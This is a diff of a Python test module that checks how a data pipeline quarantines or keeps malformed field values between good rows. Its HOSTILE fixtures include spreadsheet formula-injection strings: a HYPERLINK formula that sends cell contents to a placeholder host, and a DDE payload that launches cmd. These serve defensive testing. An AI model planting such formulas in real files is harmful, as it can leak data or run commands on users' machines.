@@ -1,55 +1,111 @@
 """Bad cells: one stands in one field of one row, between two good rows."""
 
 from collections.abc import Callable
+from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
-from .case import EVERY, TABLES, Bad, Case, Expected, bad, kept
+from .case import ANY, EVERY, TABLES, Bad, Case, Expected, Kept, bad, kept
 from .rows import good
 from .world import World, same
 
 TYPED = ("parquet", *TABLES)  # sources that have numbers, not only their spelling
 
 
-def cell(field: str, value: Any, expected: Expected, what: str = "", sources: tuple[str, ...] = EVERY) -> Case:
-    shown = what or repr(value)
-    return Case("bad cells", f"{field}: {shown}", sources, among_good_rows(field, lambda: value, expected))
+@dataclass(frozen=True)
+class Cell:
+    """A value in a field of one row, and what must become of the row."""
 
+    field: str
+    value: Any
+    expected: Expected
+    what: str
+    sources: tuple[str, ...]
+    group: str = "bad cells"
 
-def among_good_rows(field: str, value: Callable[[], Any], expected: Expected) -> Callable[[World], None]:
-    def play(world: World) -> None:
-        before = len(world.quarantined())
-        world.put([good(1001), good(1002, **{field: value()}), good(1003)])
+    def case(self) -> Case:
+        return Case(self.group, f"{self.field}: {self.what}", self.sources, self._play)
+
+    def _play(self, world: World) -> None:
+        world.put([good(1001), good(1002, **{self.field: self.value}), good(1003)])
         world.pull()
-        judge(world, field, expected, before)
-        world.run("score", world.monitor)
+        judge(world, self.field, self.expected)
+        score(world)
+
+
+def cell(field: str, value: Any, expected: Expected, what: str = "", sources: tuple[str, ...] = EVERY) -> Cell:
+    return Cell(field, value, expected, what or repr(value), sources)
+
+
+def score(world: World) -> None:
+    """Every stored row gets its score."""
+    world.run("score", world.monitor)
+    if world.ask("SELECT version_id FROM versions"):
         scored = world.ask("SELECT count(*) AS n FROM scores")[0]["n"]
         stored = sum(len(world.rows(m)) for m in ("files", "table"))
         world.must(scored == stored, f"{stored} rows are stored, {scored} scored")
 
+
+def all_at_once(cells: list[Cell]) -> Callable[[World], None]:
+    """All of them in one batch, each between two good rows."""
+
+    def play(world: World) -> None:
+        rows = [good(2000)]
+        for n, each in enumerate(cells):
+            rows += [good(2001 + 2 * n, **{each.field: each.value}), good(2002 + 2 * n)]
+        world.put(rows)
+        world.pull()
+        aside = world.quarantined()
+        for n, each in enumerate(cells):
+            key = 2001 + 2 * n
+            intact(world, key - 1, key + 1)
+            held = key_of(world, str(key))
+            if isinstance(each.expected, Bad):
+                reasons = [q["reason"] for q in aside if str(key) in q["raw"]]
+                fine = held is None and any(all(w in r for w in each.expected.words) for r in reasons)
+                world.must(fine, f"{each.field}: {each.what}: stored {held is not None}, reasons {reasons}")
+            else:
+                fits(world, each.field, each.expected, str(key))
+        expected = sum(isinstance(each.expected, Bad) for each in cells)
+        world.must(len(aside) == expected, f"{len(aside)} rows quarantined, expected {expected}")
+        score(world)
+
     return play
 
 
-def judge(world: World, field: str, expected: Expected, before: int) -> None:
-    rows = world.rows()
-    for n in (1001, 1003):
-        row = rows.get(str(n))
+def judge(world: World, field: str, expected: Expected) -> None:
+    intact(world, 1001, 1003)
+    aside = world.quarantined()
+    if not isinstance(expected, Bad):
+        world.must(not aside, f"quarantined: {aside}")
+        fits(world, field, expected, "1002")
+        return
+    world.must(key_of(world, "1002") is None, "the bad row was stored")
+    world.must(len(aside) == 1, f"{len(aside)} rows quarantined instead of one: {aside}")
+    for word in expected.words if aside else ():
+        world.must(word in aside[0]["reason"], f"the reason does not say {word!r}: {aside[0]['reason']}")
+
+
+def intact(world: World, *numbers: int) -> None:
+    """The good rows are there, as they were given."""
+    for n in numbers:
+        row, given = key_of(world, str(n)), good(n)
         world.must(row is not None, f"the good row {n} was lost")
         for name in ("amount", "load", "flag", "kind", "note", "seen", "big") if row else ():
-            world.must(same(row[name], good(n)[name]), f"row {n}: {name} became {row[name]!r}")  # type: ignore[index]  # asked
-    aside = world.quarantined()[before:]
-    if isinstance(expected, Bad):
-        world.must("1002" not in rows, f"the bad row was stored: {rows.get('1002')}")
-        world.must(len(aside) == 1, f"{len(aside)} rows quarantined instead of one: {aside}")
-        for word in expected.words if aside else ():
-            world.must(word in aside[0]["reason"], f"the reason does not say {word!r}: {aside[0]['reason']}")
-        return
-    world.must(not aside, f"quarantined: {aside}")
-    row = {str(r["source_key"]): r for r in rows.values()}.get("1002")
-    world.must(row is not None, f"the row was lost; there are {list(rows)[-4:]}")
+            world.must(same(row[name], given[name]), f"row {n}: {name} became {row[name]!r}")  # type: ignore[index]  # asked
+
+
+def fits(world: World, field: str, expected: Expected, key: str) -> None:
+    row = key_of(world, key)
+    world.must(row is not None, f"{field}: the row {key} was lost")
     place = {"at": "event_at", "card": "entity"}.get(field, field)
-    if row and place in row and hasattr(expected, "value"):
-        world.must(same(row[place], expected.value), f"{field} became {row[place]!r}, expected {expected.value!r}")
+    if row and place in row and isinstance(expected, Kept):
+        world.must(expected.value is ANY or same(row[place], expected.value),
+                   f"{field} became {row[place]!r}, expected {expected.value!r}")  # fmt: skip
+
+
+def key_of(world: World, key: str) -> dict[str, Any] | None:
+    return world.rows().get(key)
 
 
 def utc(*parts: int) -> datetime:
@@ -208,7 +264,7 @@ IDENTITIES = [
 
 FORMULA = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
 HOSTILE = [
-    Case("hostile text", f"{field}: {what}", sources, among_good_rows(field, lambda text=text: text, kept(text)))  # type: ignore[misc]  # bound here
+    Cell(field, text, kept(text), what, sources, "hostile text")
     for field, what, text, sources in [
         ("note", "a formula", FORMULA, EVERY),
         ("kind", "a formula with @", "@SUM(1+1)*cmd|' /C calc'!A0", EVERY),
@@ -225,4 +281,5 @@ HOSTILE = [
     ]
 ]  # fmt: skip
 
-CASES = [*NUMBERS, *WHOLE_NUMBERS, *TRUTHS, *TIMES, *TEXTS, *IDENTITIES, *HOSTILE]
+CELLS = [*NUMBERS, *WHOLE_NUMBERS, *TRUTHS, *TIMES, *TEXTS, *IDENTITIES, *HOSTILE]
+CASES = [each.case() for each in CELLS]
